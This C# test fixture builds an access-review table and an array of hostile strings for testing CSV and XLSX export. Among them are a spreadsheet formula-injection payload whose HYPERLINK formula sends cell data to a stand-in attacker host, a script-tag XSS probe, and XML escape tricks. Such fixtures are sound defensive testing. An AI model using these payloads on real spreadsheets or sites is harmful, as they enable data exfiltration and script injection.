using IsmsOps.Engine.Tables;

namespace IsmsOps.Engine.Tests.Tables;

/// <summary>A review-shaped table and strings chosen to break naive CSV and XLSX code.</summary>
internal static class TableFixtures
{
    public static readonly string[] Decisions = ["Approve", "Deny", "DontKnow"];

    public static readonly TableColumn[] Columns =
    [
        TableColumn.Text("ItemId", readOnly: true),
        TableColumn.Text("PrincipalName", readOnly: true),
        TableColumn.Text("Reason", readOnly: true),
        TableColumn.Date("LastSignIn", readOnly: true),
        TableColumn.Choice("Decision", Decisions),
        TableColumn.Text("Justification"),
    ];

    /// <summary>Formula prefixes, CSV metacharacters, XML metacharacters, SpreadsheetML's own escape syntax, astral unicode.</summary>
    public static readonly string[] Hostile =
    [
        "=HYPERLINK(\"http://attacker.example/?\"&A1,\"Click\")",
        "+1+1",
        "-2+3",
        "@SUM(A1:A9)",
        "\tcmd",
        "\rcmd",
        "'already quoted",
        "''=still text",
        "'=x",
        "comma, inside",
        "say \"hi\", twice \"\"",
        "first line\nsecond line\n\nfourth",
        "Zoë Ñandú, 日本語, emoji 🎉👩‍💻",
        "<script>alert(1)</script> & </t></is>",
        "_x0041_ is not A",
        "  leading and trailing spaces  ",
        "trailing backslash \\",
        "a;b|c",
    ];

    public static TableSheet Sheet(string name, int rows)
    {
        var sheet = new TableSheet(name, Columns);
        for (int i = 1; i <= rows; i++)
        {
            sheet.Add($"item-{i}", $"user{i}@contoso.example", i % 2 == 0 ? "No sign-in for 90 days" : "Active", TableColumn.FormatDate(new DateTimeOffset(2026, 1, i % 28 + 1, 0, 0, 0, TimeSpan.Zero)), null, null);
        }

        return sheet;
    }

    public static TableSheet HostileSheet(string name)
    {
        var sheet = new TableSheet(name, Columns);
        for (int i = 0; i < Hostile.Length; i++)
        {
            sheet.Add($"item-{i}", Hostile[i], Hostile[(i + 1) % Hostile.Length], "2026-02-01", i % 3 == 0 ? "Deny" : null, Hostile[(i + 2) % Hostile.Length]);
        }

        return sheet;
    }

    /// <summary>The cells of a written sheet as read back, by row and column order.</summary>
    public static string?[][] Cells(TableReadResult table, IReadOnlyList<TableColumn> columns) =>
        table.Rows.Select(r => columns.Select(c => NullIfEmpty(r.Cells.GetValueOrDefault(c.Name))).ToArray()).ToArray();

    public static string?[][] Cells(TableSheet sheet) =>
        sheet.Rows.Select(r => r.Select(NullIfEmpty).ToArray()).ToArray();

    private static string? NullIfEmpty(string? value) => string.IsNullOrEmpty(value) ? null : value;
}
